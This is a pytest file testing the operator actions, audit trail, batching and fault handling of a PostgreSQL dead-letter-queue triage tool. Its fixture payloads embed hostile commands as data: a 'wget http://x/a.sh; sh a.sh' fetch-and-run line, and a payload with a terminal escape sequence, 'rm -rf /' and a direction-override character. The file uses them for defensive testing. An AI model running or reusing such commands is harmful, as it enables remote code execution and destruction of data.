"""Operator actions against a real PostgreSQL: what changes, what is skipped and why, and the audit trail."""

from __future__ import annotations

import json
import threading
import time
import uuid
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, text

from dlq_tui.db import triage
from dlq_tui.db.triage import ActionRefused, Operator
from tests.support.factories import add_bare_events

PAYLOAD = '{"malformed_content": "wget http://x/a.sh; sh a.sh", "original_offset": 7}'


# --- local helpers (tests/factories.py belongs to another helper) ----------------------------------------


def add_events(engine: Engine, n: int = 1, payload: str = PAYLOAD, **cols: Any) -> list[int]:
    return add_bare_events(engine, n, reason="json_parsing_failed", payload=payload, **cols)


def raw_update(engine: Engine, ids: list[int], assignments: str, **params: Any) -> None:
    with engine.begin() as conn:
        conn.execute(text(f"UPDATE dead_letter_events SET {assignments} WHERE id = ANY(:ids)"), {"ids": ids, **params})


def hold_by_other(engine: Engine, ids: list[int], minutes: int = 30) -> uuid.UUID:
    """Lock the events the way the processor does (a foreign token, expiry in the future)."""
    token = uuid.uuid4()
    raw_update(
        engine, ids, "processing_lock = :t, lock_expires_at = now() + make_interval(mins => :m)", t=token, m=minutes
    )
    return token


def row(engine: Engine, event_id: int) -> dict[str, Any]:
    with engine.connect() as conn:
        found = conn.execute(
            text("SELECT *, payload::text AS payload_text FROM dead_letter_events WHERE id = :i"), {"i": event_id}
        )
        return dict(found.mappings().one())


def audit(engine: Engine, event_id: int) -> list[dict[str, Any]]:
    return row(engine, event_id)["processing_attempts"] or []


def operator_entries(engine: Engine, event_id: int) -> list[dict[str, Any]]:
    return [e for e in audit(engine, event_id) if str(e.get("method", "")).startswith("operator:")]


@pytest.fixture
def op() -> Operator:
    return Operator("alice")


@pytest.fixture
def other() -> Operator:
    return Operator("bob")


# --- claim ----------------------------------------------------------------------------------------------


def test_claim_takes_free_events_and_writes_one_audit_entry(v7_engine: Engine, op: Operator) -> None:
    ids = add_events(v7_engine, 3)
    before = row(v7_engine, ids[0])

    result = triage.claim(v7_engine, op, ids)

    assert result.done == ids and result.skipped == {}
    assert result.summary == "claim: 3 done"
    after = row(v7_engine, ids[0])
    assert after["processing_lock"] == op.lock_token
    ttl = after["lock_expires_at"] - after["updated_at"]
    assert ttl == timedelta(minutes=op.lock_ttl_minutes)
    (entry,) = audit(v7_engine, ids[0])
    assert entry["method"] == "operator:claim"
    assert entry["operator"] == "alice"
    assert entry["success"] is True
    assert set(entry["changes"]) == {"processing_lock", "lock_expires_at"}
    assert entry["changes"]["processing_lock"] == {"old": None, "new": str(op.lock_token)}
    assert entry["changes"]["lock_expires_at"]["old"] is None
    assert datetime.fromisoformat(entry["changes"]["lock_expires_at"]["new"]) == after["lock_expires_at"]
    # The timestamp is ISO-8601 in UTC, and the trigger (not us) moved updated_at to the same transaction time.
    stamp = datetime.fromisoformat(entry["timestamp"])
    assert stamp.utcoffset() == timedelta(0)
    assert after["updated_at"] > before["updated_at"]
    assert after["updated_at"] == stamp


def test_event_held_by_another_session_is_skipped_with_when(v7_engine: Engine, op: Operator) -> None:
    free, held = add_events(v7_engine, 2)
    hold_by_other(v7_engine, [held], minutes=45)
    before = row(v7_engine, held)

    result = triage.claim(v7_engine, op, [free, held])

    assert result.done == [free]
    until = before["lock_expires_at"].astimezone().strftime("%H:%M")
    assert result.skipped == {held: f"held by another session until {until}"}
    assert result.summary == "claim: 1 done, 1 skipped"
    assert row(v7_engine, held) == before  # not even updated_at moved


def test_same_operator_in_another_terminal_is_another_holder(v7_engine: Engine, op: Operator) -> None:
    (event,) = add_events(v7_engine)
    second_terminal = Operator(op.name)
    assert triage.claim(v7_engine, op, [event]).done == [event]
    assert triage.claim(v7_engine, second_terminal, [event]).skipped[event].startswith("held by another session")


def test_describe_groups_skip_reasons_for_one_line(v7_engine: Engine, op: Operator) -> None:
    free, held1, held2, done_already = add_events(v7_engine, 4)
    hold_by_other(v7_engine, [held1], minutes=10)
    hold_by_other(v7_engine, [held2], minutes=50)
    raw_update(v7_engine, [done_already], "resolved = true")
    result = triage.claim(v7_engine, op, [free, held1, held2, done_already, 777])
    assert triage.describe(result) == (
        "claim: 1 done, 4 skipped (2 held by another session, 1 resolved, 1 no such event)"
    )


def test_expired_lock_is_claimable(v7_engine: Engine, op: Operator) -> None:
    expired, no_expiry = add_events(v7_engine, 2)
    old_token = hold_by_other(v7_engine, [expired], minutes=-1)
    raw_update(v7_engine, [no_expiry], "processing_lock = gen_random_uuid(), lock_expires_at = NULL")

    result = triage.claim(v7_engine, op, [expired, no_expiry])

    assert result.done == [expired, no_expiry]
    assert row(v7_engine, expired)["processing_lock"] == op.lock_token
    (entry,) = audit(v7_engine, expired)
    assert entry["changes"]["processing_lock"] == {"old": str(old_token), "new": str(op.lock_token)}


def test_reclaiming_your_own_lock_extends_it(v7_engine: Engine, op: Operator) -> None:
    (event,) = add_events(v7_engine)
    triage.claim(v7_engine, op, [event])
    first = row(v7_engine, event)["lock_expires_at"]

    assert triage.claim(v7_engine, op, [event]).done == [event]

    second = row(v7_engine, event)["lock_expires_at"]
    assert second > first
    entries = audit(v7_engine, event)
    assert len(entries) == 2
    assert set(entries[1]["changes"]) == {"lock_expires_at"}  # the token did not change


def test_claim_reports_missing_and_resolved_events(v7_engine: Engine, op: Operator) -> None:
    (resolved,) = add_events(v7_engine, resolved=True)
    result = triage.claim(v7_engine, op, [resolved, 999_999, resolved])
    assert result.done == []
    assert result.skipped == {resolved: "resolved", 999_999: "no such event"}


def test_no_ids_is_a_no_op(v7_engine: Engine, op: Operator) -> None:
    assert triage.claim(v7_engine, op, []).summary == "claim: 0 done"


def test_event_row_locked_by_processor_transaction_is_busy_not_waited_for(v7_engine: Engine, op: Operator) -> None:
    busy, free = add_events(v7_engine, 2)
    with v7_engine.connect() as processor:
        processor.execute(text("SELECT id FROM dead_letter_events WHERE id = :i FOR UPDATE"), {"i": busy})
        started = time.monotonic()
        result = triage.classify(v7_engine, op, [busy, free], "malicious")
        elapsed = time.monotonic() - started
        processor.rollback()
    assert result.done == [free]
    assert result.skipped == {busy: "busy, try again"}
    assert elapsed < 1.0
    assert row(v7_engine, busy)["classification"] is None


def test_table_lock_fails_fast_with_clear_message(
    v7_engine: Engine, op: Operator, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(triage, "LOCK_TIMEOUT_MS", 200)
    (event,) = add_events(v7_engine)
    with v7_engine.connect() as migrator:
        migrator.execute(text("LOCK TABLE dead_letter_events IN ACCESS EXCLUSIVE MODE"))
        started = time.monotonic()
        with pytest.raises(ActionRefused) as refused:
            triage.claim(v7_engine, op, [event])
        elapsed = time.monotonic() - started
        migrator.rollback()
    assert str(refused.value) == (
        "busy, try again: another transaction holds a lock on dead_letter_events; nothing was changed"
    )
    assert elapsed < 2.0


# --- release --------------------------------------------------------------------------------------------


def test_release_clears_own_and_expired_locks_only(v7_engine: Engine, op: Operator) -> None:
    mine, theirs, expired, unlocked = add_events(v7_engine, 4)
    triage.claim(v7_engine, op, [mine])
    hold_by_other(v7_engine, [theirs])
    hold_by_other(v7_engine, [expired], minutes=-5)

    result = triage.release(v7_engine, op, [mine, theirs, expired, unlocked])

    assert result.done == [mine, expired]
    assert result.skipped[theirs].startswith("held by another session until ")
    assert result.skipped[unlocked] == "not locked"
    assert row(v7_engine, mine)["processing_lock"] is None
    assert row(v7_engine, expired)["lock_expires_at"] is None
    assert row(v7_engine, theirs)["processing_lock"] is not None
    entry = operator_entries(v7_engine, mine)[-1]
    assert entry["method"] == "operator:release"
    assert entry["changes"]["processing_lock"] == {"old": str(op.lock_token), "new": None}


# --- classify, priority ---------------------------------------------------------------------------------


def test_classify_sets_and_clears_with_audit(v7_engine: Engine, op: Operator, other: Operator) -> None:
    a, b = add_events(v7_engine, 2)

    assert triage.classify(v7_engine, op, [a, b], "malicious").done == [a, b]
    assert row(v7_engine, a)["classification"] == "malicious"
    assert audit(v7_engine, a)[-1]["changes"] == {"classification": {"old": None, "new": "malicious"}}

    assert triage.classify(v7_engine, other, [a], "corrupted").done == [a]  # free events: anyone may
    assert audit(v7_engine, a)[-1]["changes"] == {"classification": {"old": "malicious", "new": "corrupted"}}
    assert audit(v7_engine, a)[-1]["operator"] == "bob"

    result = triage.classify(v7_engine, op, [a, b], None)
    assert result.done == [a, b]
    assert row(v7_engine, b)["classification"] is None
    assert audit(v7_engine, b)[-1]["changes"] == {"classification": {"old": "malicious", "new": None}}


def test_classify_unchanged_is_skipped_without_audit(v7_engine: Engine, op: Operator) -> None:
    a, b = add_events(v7_engine, 2)
    triage.classify(v7_engine, op, [a], "format_error")
    result = triage.classify(v7_engine, op, [a, b], "format_error")
    assert result.done == [b]
    assert result.skipped == {a: "already format_error"}
    assert len(audit(v7_engine, a)) == 1
    assert triage.classify(v7_engine, op, [], None).done == []
    assert triage.classify(v7_engine, op, [99], None).skipped == {99: "no such event"}


def test_classify_rejects_unknown_values(v7_engine: Engine, op: Operator) -> None:
    with pytest.raises(ValueError):
        triage.classify(v7_engine, op, [1], "evil")


def test_classify_on_event_i_hold_works_and_keeps_my_lock(v7_engine: Engine, op: Operator) -> None:
    (event,) = add_events(v7_engine)
    triage.claim(v7_engine, op, [event])
    assert triage.classify(v7_engine, op, [event], "corrupted").done == [event]
    assert row(v7_engine, event)["processing_lock"] == op.lock_token


def test_set_priority_with_audit_and_validation(v7_engine: Engine, op: Operator) -> None:
    a, b = add_events(v7_engine, 2)
    hold_by_other(v7_engine, [b])
    result = triage.set_priority(v7_engine, op, [a, b], 1)
    assert result.action == "prioritize"
    assert result.done == [a]
    assert b in result.skipped
    assert row(v7_engine, a)["priority"] == 1
    assert row(v7_engine, b)["priority"] == 5
    assert audit(v7_engine, a) == [
        {**audit(v7_engine, a)[0], "method": "operator:prioritize", "changes": {"priority": {"old": 5, "new": 1}}}
    ]
    assert triage.set_priority(v7_engine, op, [a], 1).skipped == {a: "already priority 1"}
    for bad in (0, 11, True, "3"):
        with pytest.raises(ValueError):
            triage.set_priority(v7_engine, op, [a], bad)  # type: ignore[arg-type]


# --- resolve, reopen, requeue ---------------------------------------------------------------------------


def test_resolve_sets_method_note_and_frees_my_lock(v7_engine: Engine, op: Operator) -> None:
    a, b = add_events(v7_engine, 2)
    triage.claim(v7_engine, op, [a])

    result = triage.resolve(v7_engine, op, [a, b], "operator_false_positive", note="  scanner noise  ")

    assert result.done == [a, b]
    after = row(v7_engine, a)
    assert after["resolved"] is True
    assert after["resolution_method"] == "operator_false_positive"
    assert after["resolved_at"] == after["updated_at"]  # both now() of the action's transaction
    assert after["processing_lock"] is None and after["lock_expires_at"] is None
    entry = audit(v7_engine, a)[-1]
    assert entry["method"] == "operator:resolve"
    assert entry["note"] == "scanner noise"
    assert entry["changes"]["resolved"] == {"old": False, "new": True}
    assert entry["changes"]["resolution_method"] == {"old": None, "new": "operator_false_positive"}
    assert entry["changes"]["processing_lock"] == {"old": str(op.lock_token), "new": None}
    assert "processing_lock" not in audit(v7_engine, b)[-1]["changes"]  # b was not locked: no fake change
    assert audit(v7_engine, b)[-1]["note"] == "scanner noise"

    assert triage.resolve(v7_engine, op, [a], "operator_duplicate").skipped == {a: "already resolved"}
    assert triage.RESOLUTION_METHODS["operator_fixed_upstream"] == "Fixed upstream"
    with pytest.raises(ValueError):
        triage.resolve(v7_engine, op, [a], "stored_proc_enhanced")


def test_resolve_event_held_by_other_is_skipped(v7_engine: Engine, op: Operator) -> None:
    (event,) = add_events(v7_engine)
    hold_by_other(v7_engine, [event])
    result = triage.resolve(v7_engine, op, [event], "operator_discarded")
    assert result.done == [] and event in result.skipped
    assert row(v7_engine, event)["resolved"] is False


def test_reopen_undoes_resolve(v7_engine: Engine, op: Operator) -> None:
    a, b = add_events(v7_engine, 2)
    triage.resolve(v7_engine, op, [a], "operator_duplicate")

    result = triage.reopen(v7_engine, op, [a, b])

    assert result.done == [a]
    assert result.skipped == {b: "not resolved"}
    after = row(v7_engine, a)
    assert (after["resolved"], after["resolved_at"], after["resolution_method"]) == (False, None, None)
    changes = audit(v7_engine, a)[-1]["changes"]
    assert changes["resolved"] == {"old": True, "new": False}
    assert changes["resolution_method"] == {"old": "operator_duplicate", "new": None}
    assert changes["resolved_at"]["new"] is None and changes["resolved_at"]["old"] is not None


def test_requeue_hands_back_and_counts_loops(v7_engine: Engine, op: Operator) -> None:
    odd_payload = '{ "b" :1,   "a":[2,  3] }'
    (event,) = add_events(v7_engine, payload=odd_payload)
    raw_update(
        v7_engine,
        [event],
        "metadata_json = CAST(:m AS json), resolved = true, resolved_at = now(),"
        " resolution_method = 'stored_proc_enhanced'",
        m='{"json_parsing_failed": true}',
    )
    triage.claim(v7_engine, op, [event])  # a resolved event cannot be claimed; that is fine, requeue still works

    assert triage.requeue(v7_engine, op, [event]).done == [event]
    after = row(v7_engine, event)
    assert (after["resolved"], after["resolved_at"], after["resolution_method"]) == (False, None, None)
    assert after["processing_lock"] is None
    assert after["payload_text"] == odd_payload  # payload untouched, byte for byte
    meta = after["metadata_json"]
    assert meta["json_parsing_failed"] is True
    assert meta[triage.REQUEUE_COUNT_KEY] == 1
    assert meta[triage.REQUEUED_BY_KEY] == "alice"
    entry = audit(v7_engine, event)[-1]
    assert entry["method"] == "operator:requeue"
    assert entry["changes"][f"metadata_json.{triage.REQUEUE_COUNT_KEY}"] == {"old": 0, "new": 1}
    assert entry["changes"]["resolution_method"] == {"old": "stored_proc_enhanced", "new": None}

    # The processor fails it again (it stays in the DLQ); the next requeue shows the loop.
    triage.requeue(v7_engine, op, [event])
    assert row(v7_engine, event)["metadata_json"][triage.REQUEUE_COUNT_KEY] == 2
    assert len(operator_entries(v7_engine, event)) == 2


@pytest.mark.parametrize("metadata", ["[1, 2]", '{"nul": "\\u0000"}'])
def test_requeue_keeps_metadata_it_cannot_mark(v7_engine: Engine, op: Operator, metadata: str) -> None:
    """A non-object, or text that jsonb cannot hold, stays as it was: the audit entry still records the requeue."""
    (event,) = add_events(v7_engine)
    raw_update(v7_engine, [event], "metadata_json = CAST(:m AS json)", m=metadata)
    assert triage.requeue(v7_engine, op, [event]).done == [event]
    with v7_engine.connect() as conn:
        kept = conn.execute(text("SELECT metadata_json::text FROM dead_letter_events WHERE id = :i"), {"i": event})
        assert kept.scalar() == metadata
    entry = audit(v7_engine, event)[-1]
    assert entry["method"] == "operator:requeue"
    assert f"metadata_json.{triage.REQUEUE_COUNT_KEY}" not in entry["changes"]


def test_requeue_does_not_touch_event_held_by_processor(v7_engine: Engine, op: Operator) -> None:
    (event,) = add_events(v7_engine)
    hold_by_other(v7_engine, [event])
    assert triage.requeue(v7_engine, op, [event]).done == []
    assert row(v7_engine, event)["processing_lock"] is not None


# --- audit trail ----------------------------------------------------------------------------------------

ACTIONS = {
    "claim": lambda e, op, ids: triage.claim(e, op, ids),
    "release": lambda e, op, ids: triage.release(e, op, ids),
    "classify": lambda e, op, ids: triage.classify(e, op, ids, "malicious"),
    "prioritize": lambda e, op, ids: triage.set_priority(e, op, ids, 2),
    "resolve": lambda e, op, ids: triage.resolve(e, op, ids, "operator_discarded"),
    "reopen": lambda e, op, ids: triage.reopen(e, op, ids),
    "requeue": lambda e, op, ids: triage.requeue(e, op, ids),
}


@pytest.mark.parametrize("name", list(ACTIONS))
def test_each_action_appends_exactly_one_entry_and_moves_updated_at(v7_engine: Engine, op: Operator, name: str) -> None:
    (event,) = add_events(v7_engine)
    processor_entry = {"timestamp": "2024-03-01T00:00:00", "method": "repair_failure", "success": False}
    raw_update(v7_engine, [event], "processing_attempts = CAST(:a AS jsonb)", a=json.dumps([processor_entry]))
    if name == "release":
        raw_update(v7_engine, [event], "processing_lock = :t, lock_expires_at = now()", t=op.lock_token)
    if name == "reopen":
        raw_update(v7_engine, [event], "resolved = true, resolved_at = now()")
    before = row(v7_engine, event)

    result = ACTIONS[name](v7_engine, op, [event])

    assert result.action == name and result.done == [event]
    after = row(v7_engine, event)
    entries = after["processing_attempts"]
    assert entries[0] == processor_entry  # the processor's history is kept
    assert len(entries) == 2
    assert entries[1]["method"] == f"operator:{name}"
    assert entries[1]["changes"]  # something real changed, and it says what
    for column, change in entries[1]["changes"].items():
        if column in before:
            old, logged = before[column], change["old"]
            if isinstance(old, datetime):  # logged in UTC; compare instants, not spellings
                logged = datetime.fromisoformat(logged)
            elif isinstance(old, uuid.UUID):
                logged = uuid.UUID(logged)
            assert logged == old, column
    assert after["updated_at"] > before["updated_at"]
    assert after["updated_at"] == datetime.fromisoformat(entries[1]["timestamp"])


def test_non_array_history_is_kept_not_lost(v7_engine: Engine, op: Operator) -> None:
    (event,) = add_events(v7_engine)
    raw_update(v7_engine, [event], """processing_attempts = '{"legacy": 1}'::jsonb""")
    triage.classify(v7_engine, op, [event], "corrupted")
    entries = audit(v7_engine, event)
    assert entries[0] == {"legacy": 1}
    assert entries[1]["method"] == "operator:classify"


# --- bulk -----------------------------------------------------------------------------------------------


def poison_row(engine: Engine, event_id: int, errcode: str = "P0001") -> None:
    """A trigger that makes the database refuse any change to one row (after other rows were updated)."""
    with engine.begin() as conn:
        conn.execute(
            text(
                "CREATE FUNCTION poison() RETURNS trigger AS $$ BEGIN"
                f" IF NEW.id = {event_id} THEN RAISE EXCEPTION 'poisoned row %', NEW.id USING ERRCODE = '{errcode}';"
                " END IF; RETURN NEW; END $$ LANGUAGE plpgsql"
            )
        )
        conn.execute(
            text("CREATE TRIGGER poison BEFORE UPDATE ON dead_letter_events FOR EACH ROW EXECUTE FUNCTION poison()")
        )


def changed_ids(engine: Engine) -> set[int]:
    with engine.connect() as conn:
        found = conn.execute(text("SELECT id FROM dead_letter_events WHERE processing_attempts IS NOT NULL"))
        return set(found.scalars())


def make_actionable(engine: Engine, op: Operator, name: str, ids: list[int]) -> None:
    """Fresh events suit every action but release (needs a lock of op's) and reopen (needs resolved events)."""
    if name == "release":
        raw_update(engine, ids, "processing_lock = :t, lock_expires_at = now() + interval '5 minutes'", t=op.lock_token)
    if name == "reopen":
        raw_update(engine, ids, "resolved = true, resolved_at = now()")


def test_batch_fault_is_atomic_per_batch(v7_engine: Engine, op: Operator, monkeypatch: pytest.MonkeyPatch) -> None:
    """A fault of the whole batch (here a lock timeout raised mid-statement) leaves that batch untouched."""
    monkeypatch.setattr(triage, "BATCH_SIZE", 50)
    ids = add_events(v7_engine, 120)
    poison = ids[74]  # in the second batch (ids[50:100])
    poison_row(v7_engine, poison, errcode="55P03")

    with pytest.raises(ActionRefused) as refused:
        triage.classify(v7_engine, op, ids, "malicious")

    assert str(refused.value) == (
        "busy, try again: another transaction holds a lock on dead_letter_events; nothing was changed in this batch"
        " (50 events of earlier batches stay done)"
    )
    assert refused.value.result is not None and refused.value.result.done == ids[:50]
    # Second batch: nothing, not even the rows before the poison; the third never ran.
    assert changed_ids(v7_engine) == set(ids[:50])


@pytest.mark.parametrize("name", list(ACTIONS))
def test_one_row_the_database_refuses_is_skipped_and_named_the_rest_is_done(
    v7_engine: Engine, op: Operator, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(triage, "BATCH_SIZE", 50)
    ids = add_events(v7_engine, 120)
    make_actionable(v7_engine, op, name, ids)
    poison = ids[74]
    poison_row(v7_engine, poison)

    result = ACTIONS[name](v7_engine, op, ids)

    assert result.done == [i for i in ids if i != poison]
    assert result.skipped == {poison: f"refused by the database: poisoned row {poison}"}
    assert triage.describe(result) == (
        f"{name}: 119 done, 1 skipped (event {poison} refused by the database: poisoned row {poison})"
    )
    assert changed_ids(v7_engine) == set(ids) - {poison}  # each done row has its audit entry, the poisoned none


# Hostile metadata_json that the json column accepts but the server cannot turn into jsonb (requeue does).
HOSTILE_METADATA = {
    "lone surrogate": ('{"note": "\\udc00"}', "surrogate"),
    "lone surrogate as the count": ('{"operator_requeue_count": "\\ud800"}', "surrogate"),
    "number beyond numeric": ('{"n": 1e200000}', "value overflows numeric format"),
}


@pytest.mark.parametrize("case", list(HOSTILE_METADATA))
def test_bulk_requeue_skips_the_event_whose_metadata_the_server_cannot_read(
    v7_engine: Engine, op: Operator, case: str
) -> None:
    metadata, why = HOSTILE_METADATA[case]
    good, hostile, also_good = add_events(v7_engine, 3)
    raw_update(v7_engine, [good, hostile, also_good], "resolved = true, resolved_at = now()")
    raw_update(v7_engine, [hostile], "metadata_json = CAST(:m AS json)", m=metadata)
    before = row(v7_engine, hostile)

    result = triage.requeue(v7_engine, op, [good, hostile, also_good])

    assert result.done == [good, also_good]
    (reason,) = result.skipped.values()
    assert list(result.skipped) == [hostile]
    assert reason.startswith("refused by the database: metadata_json is not valid JSON for the server (")
    assert why in reason
    assert f"event {hostile} refused by the database: metadata_json is not valid JSON" in triage.describe(result)
    for event in (good, also_good):
        assert row(v7_engine, event)["resolved"] is False
        assert row(v7_engine, event)["metadata_json"][triage.REQUEUE_COUNT_KEY] == 1
    after = row(v7_engine, hostile)
    assert after == before  # nothing of the hostile event changed, not even updated_at
    with v7_engine.connect() as conn:
        kept = conn.execute(text("SELECT metadata_json::text FROM dead_letter_events WHERE id = :i"), {"i": hostile})
        assert kept.scalar() == metadata


def deepest_storable(engine: Engine, event_id: int, column: str, cast: str, make: Any) -> int:
    """The deepest nesting this server stores in the column (its stack limit decides): found by bisection."""
    low, high = 1_000, 100_000
    while high - low > 50:
        mid = (low + high) // 2
        try:
            raw_update(engine, [event_id], f"{column} = CAST(:v AS {cast})", v=make(mid))
            low = mid
        except Exception:
            high = mid
    raw_update(engine, [event_id], f"{column} = CAST(:v AS {cast})", v=make(low))
    return low


@pytest.mark.parametrize("name", list(ACTIONS))
def test_deepest_json_the_server_stores_does_not_sink_the_batch(v7_engine: Engine, op: Operator, name: str) -> None:
    """100,000 levels cannot even be stored (stack depth); the deepest that can be, in every JSON column, must
    leave the other events of the batch done whatever the action (the deep one: done, or refused and named)."""
    ids = add_events(v7_engine, 3)
    deep = ids[1]
    depth = deepest_storable(v7_engine, deep, "metadata_json", "json", lambda d: '{"a":' * d + "1" + "}" * d)
    deepest_storable(v7_engine, deep, "error_history", "jsonb", lambda d: "[" * d + "]" * d)
    # The audit column stays an array (the processor's history is one), its one entry nested as deep as it goes.
    deepest_storable(v7_engine, deep, "processing_attempts", "jsonb", lambda d: "[" * d + "]" * d)
    assert depth > 1_000
    make_actionable(v7_engine, op, name, ids)

    result = ACTIONS[name](v7_engine, op, ids)

    assert [i for i in result.done if i != deep] == [ids[0], ids[2]]
    assert deep in result.done or result.skipped[deep].startswith("refused by the database: ")
    print(f"\n{name}: metadata depth {depth}: deep event", "done" if deep in result.done else result.skipped[deep])


def test_bulk_over_many_batches_reports_every_id(
    v7_engine: Engine, op: Operator, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(triage, "BATCH_SIZE", 7)
    ids = add_events(v7_engine, 30)
    hold_by_other(v7_engine, ids[::5])
    result = triage.claim(v7_engine, op, [*ids, 0])
    assert sorted(result.done) == sorted(set(ids) - set(ids[::5]))
    assert result.done == [i for i in ids if i in set(result.done)]  # in the order asked
    assert set(result.skipped) == {*ids[::5], 0}


# --- faults ---------------------------------------------------------------------------------------------


def test_connection_lost_mid_action_is_one_clear_message(v7_engine: Engine, op: Operator) -> None:
    (event,) = add_events(v7_engine)
    with v7_engine.begin() as conn:
        conn.execute(
            text(
                "CREATE FUNCTION slow() RETURNS trigger AS $$ BEGIN PERFORM pg_sleep(10); RETURN NEW; END"
                " $$ LANGUAGE plpgsql"
            )
        )
        conn.execute(
            text("CREATE TRIGGER slow BEFORE UPDATE ON dead_letter_events FOR EACH ROW EXECUTE FUNCTION slow()")
        )
    outcome: dict[str, BaseException] = {}

    def act() -> None:
        try:
            triage.classify(v7_engine, op, [event], "malicious")
        except BaseException as exc:
            outcome["error"] = exc

    worker = threading.Thread(target=act)
    worker.start()
    with v7_engine.connect() as admin:
        for _ in range(100):
            killed = (
                admin.execute(
                    text(
                        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"
                        " WHERE datname = current_database() AND pid <> pg_backend_pid() AND wait_event = 'PgSleep'"
                    )
                )
                .scalars()
                .all()
            )
            if killed:
                break
            time.sleep(0.05)
    worker.join(timeout=10)
    assert isinstance(outcome.get("error"), ActionRefused)
    assert str(outcome["error"]) == "not done: connection to the database was lost; nothing was changed"
    with v7_engine.begin() as conn:
        conn.execute(text("DROP TRIGGER slow ON dead_letter_events"))
    assert row(v7_engine, event)["classification"] is None


def test_database_unreachable_is_one_clear_message(op: Operator, tmp_path: Path) -> None:
    from dlq_tui.db.connect import make_engine

    engine = make_engine(f"host={tmp_path} port=1 dbname=x user=u password=hunter2 connect_timeout=2")
    with pytest.raises(ActionRefused) as refused:
        triage.claim(engine, op, [1])
    assert str(refused.value) == "not done: cannot reach the database; nothing was changed"


def test_operator_validation() -> None:
    assert Operator("a").lock_token != Operator("a").lock_token
    with pytest.raises(ValueError):
        Operator("  ")
    with pytest.raises(ValueError):
        Operator("a", lock_ttl_minutes=0)


# --- export ---------------------------------------------------------------------------------------------

ODD_PAYLOADS = [
    '{"z":1,   "a" : [ 1,2 ,3 ],"z":2}',  # key order, spacing and a duplicate key: all must survive
    '{"malformed_content": "\\u001b]0;pwned\\u0007 rm -rf / \u202e", "ünï": "çødé"}',
    '  [ "not", "an", {"object" :true} ]  ',
    '"just a string"',
]


def test_export_writes_exact_payload_text_and_every_column(v7_engine: Engine, op: Operator, tmp_path: Path) -> None:
    ids = [add_events(v7_engine, payload=p)[0] for p in ODD_PAYLOADS]
    triage.claim(v7_engine, op, ids[:1])
    out = tmp_path / "events.jsonl"

    written = triage.export_jsonl(v7_engine, [ids[2], *ids[:2], ids[3], 424242], out)

    assert written == 4
    raw = out.read_bytes()
    assert raw.isascii()  # escapes only: viewing the file cannot run terminal sequences
    lines = [json.loads(line) for line in raw.decode().splitlines()]
    assert [line["id"] for line in lines] == [ids[2], ids[0], ids[1], ids[3]]
    with v7_engine.connect() as conn:
        stored = {r[0]: r[1] for r in conn.execute(text("SELECT id, payload::text FROM dead_letter_events"))}
    for line in lines:
        assert line["payload_text"] == stored[line["id"]]
    assert lines[1]["payload_text"] == ODD_PAYLOADS[0]
    columns = set(row(v7_engine, ids[0])) - {"payload", "payload_text", "metadata_json"}
    assert columns | {"payload_text", "metadata_json_text"} == set(lines[0])
    assert lines[1]["processing_lock"] == str(op.lock_token)
    assert lines[1]["processing_attempts"][0]["method"] == "operator:claim"
    assert datetime.fromisoformat(lines[1]["created_at"])
    assert list(tmp_path.iterdir()) == [out]  # no temp file left behind


def test_export_refuses_to_overwrite_unless_asked(v7_engine: Engine, tmp_path: Path) -> None:
    ids = add_events(v7_engine, 2)
    out = tmp_path / "x.jsonl"
    out.write_text("keep me")
    with pytest.raises(ActionRefused, match="already exists"):
        triage.export_jsonl(v7_engine, ids, out)
    assert out.read_text() == "keep me"
    assert triage.export_jsonl(v7_engine, ids, out, overwrite=True) == 2
    assert len(out.read_text().splitlines()) == 2
    with pytest.raises(ActionRefused, match="cannot write"):
        triage.export_jsonl(v7_engine, ids, tmp_path / "missing-dir" / "x.jsonl")


def test_export_unreachable_database_leaves_no_file(op: Operator, tmp_path: Path) -> None:
    from dlq_tui.db.connect import make_engine

    engine = make_engine(f"host={tmp_path} port=1 dbname=x user=u connect_timeout=2")
    with pytest.raises(ActionRefused, match=r"^not exported: cannot reach the database$"):
        triage.export_jsonl(engine, [1], tmp_path / "e.jsonl")
    assert list(tmp_path.iterdir()) == []


def test_database_not_at_v7_is_a_clear_message(v7_engine: Engine, op: Operator) -> None:
    with v7_engine.begin() as conn:
        conn.execute(text("ALTER TABLE dead_letter_events DROP COLUMN classification CASCADE"))
    with pytest.raises(ActionRefused, match="not at schema v7"):
        triage.classify(v7_engine, op, [1], "malicious")
